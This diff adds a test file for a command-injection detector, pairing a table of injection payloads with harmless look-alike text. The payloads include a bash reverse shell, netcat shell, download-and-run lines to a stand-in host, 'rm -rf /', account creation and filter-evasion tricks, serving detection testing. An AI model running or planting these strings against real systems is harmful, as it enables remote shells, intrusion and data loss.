@@ -1,0 +1,60 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expansions of shells are the matter here
+import { commandDetector } from "../../src/detect/command/index.ts";
+import { holdSteps, holdTables, holdVariants } from "./finder-tables.ts";
+
+/** A separator, a name that is read at once, something behind it: what the variants below start from. */
+const PLAIN = [
+  ";cat /etc/hosts", "| cat /etc/hosts", "|| whoami", "&& whoami", "& whoami", "x; wget http://h.example/a", "x | nslookup h.example", "1.2.3.4; ls -la /tmp",
+  "x && curl http://h.example/a", "a;uname -a", "a|netstat -an", "x;ifconfig", "';whoami;'", '"|whoami|"', "$(whoami)", "x$(uname -a)", "x`uname -a`", "`whoami`",
+]; // biome-ignore format: a list of words
+
+const ATTACKS = [
+  ...PLAIN,
+  // Names that hide from a list.
+  ";c'a't /etc/hosts", ';w"h"oami', ";wh''oami", ";w\\ho\\ami", ";wh$@oami", ";wh``oami /x", ";who$()ami", ";/bin/c?t /etc/hosts", "/???/c?t /e?c/h?sts", "| /usr/bin/[i]d",
+  ";cat${IFS}/etc/hosts", ";cat$IFS$9/etc/hosts", ";{cat,/etc/hosts}", ";cat</etc/hosts", "x;a=ca;b=t;$a$b", "${PATH:0:1}bin${PATH:0:1}ls", "& w^h^o^a^m^i", "ping%ProgramFiles:~10,1%h.example",
+  ";/usr/bin/env bash -c id", "x\nwhoami", "10.0.0.1\ncat /etc/hosts", "x\\ncat /etc/hosts",
+  // Shells that read, write and talk.
+  "x; echo aWQ=|base64 -d|sh", "bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "x;nc -e /bin/sh 10.0.0.1 99", "x|sh", "x; rm -rf /", "x; sleep 9", "&& sleep 9 #", "|ping -c 9 127.0.0.1|",
+  "x; python3 -c 'import os'", "x;perl -e 'print 1'", "() { :;}; /bin/id", "x; cat /etc/passwd > /tmp/a", "$(sleep 9)", "x & ping -n 9 127.0.0.1 &", "x; kill -9 1",
+  // Windows.
+  "& dir C:\\", "| type C:\\boot.ini", "&& net user a b /add", "x & tasklist", "|| ipconfig /all", "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "cmd /c whoami", "cmd.exe /c dir",
+  "Invoke-WebRequest http://h.example/a.ps1", "iex (New-Object Net.WebClient).DownloadString('http://h.example')", "& certutil -urlcache -f http://h.example/a a.exe", "||calc.exe",
+  // Arguments that make a program run another.
+  "-oProxyCommand=id x", "--upload-pack=id", "wget http://h.example/a.sh -O /tmp/a", "/bin/cat /etc/hosts",
+]; // biome-ignore format: a list of words
+
+const BENIGN = [
+  "Tom & Jerry", "AT&T", "R&D & more", "a hero; more than", "time; date; who", "bash away in the gym", "zsh is the best!", "echo in the mirror", "curl and divergence", "ls 300 lexus", "nc 8000 controller",
+  "java lang courses", "I like cats; find me one", "first; then make tea", "salt; sort of", "see above; cut it", "wait; sleep well", "do it; kill time", "cat & dog", "dog & cat", "head & shoulders", "Home | News | Mail", "| id | name | date |",
+  "|---|---|", "id|name|date", "name;id;date", "a=1&id=5&date=3", "?cat=3&sort=name&type=x", "&copy; 2020", "&lt;b&gt;", "use `id` as key", "run `npm install` first", "```sh\nnpm install\n```", "`ls`, `cd` and `pwd` are commands",
+  "find the type of it", "test of time", "set the table", "more or less", "who am I", "kill the lights", "the top of the tree", "cut & paste", "copy & paste; print it", "touch and go", "make it so", "get it done", "at the date below",
+  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.5.0", "python-requests/2.31", "Wget/1.21", "text/html; charset=utf-8", "gzip, deflate; q=0.5",
+  "price < 5; size > 3", "x > y & y > z", "if (a && b) { return c; }", "a || b", "const f = (x) => x; // done", "$(document).ready(function () {})", "$('#id').hide()", "${name}", "{{ user.name }}", "#!/usr/bin/env node is the first line",
+  "C:\\Users\\Jane\\Documents", "/usr/local/share", "안녕; 오늘 날짜는?", "서울 & 부산 | 대구", "Dear all,\nfind attached the list.\nmake sure to read it.\ncat", "1. wash\n2. cut\n3. sort", "10% off; while it lasts", "path; env; home", "; ", "|", "&", "a;", "Q & A: what?", "x^2 + y^2", "100$ & more",
+]; // biome-ignore format: a list of words
+
+holdTables(commandDetector, ATTACKS, BENIGN);
+
+holdVariants(commandDetector, PLAIN, [
+  ["with blanks around separators", (text) => text.replace(/^([;|&]+)/, " $1  ")],
+  ["with tabs for blanks", (text) => text.replaceAll(" ", "\t")],
+  [
+    "with quotes inside the name",
+    (text) => text.replace(/(whoami|cat|wget|curl|uname|netstat|ifconfig|nslookup)/, (name) => `${name.slice(0, 2)}''${name.slice(2)}`),
+  ],
+  [
+    "with escapes inside the name",
+    (text) => text.replace(/(whoami|cat|wget|curl|uname|netstat|ifconfig|nslookup)/, (name) => `${name.slice(0, 1)}\\${name.slice(1)}`),
+  ],
+  ["with a folder before the name", (text) => text.replace(/(whoami|cat|wget|curl|uname|netstat|ifconfig|nslookup)/, "/usr/bin/$1")],
+  ["in capitals, as Windows reads it", (text) => text.toUpperCase()],
+]);
+
+holdSteps(
+  commandDetector,
+  [
+    "a", ";", "; ", "|", "&", "`", "$(", "$(id", ";id", ";id\n", "id\n", "\n", "\nls", "\\n", ";'", ";\"a", ";'a'", ";c'a't", ";/bin/", ";/a/b/c", "${", "${IFS}", "{cat,", "{,", "$", "^a", "/?", "/b?n/", "-enc ", "--", "cmd ", "2>&1", "() {", "<(", ";echo ", ";sleep ", "| ", "a;b ", ";cat ", "&&cat /", "`id`", "x`id ", ";cat${", ";$@", "%", ":~1,",
+  ],
+  60,
+); // biome-ignore format: a list of words
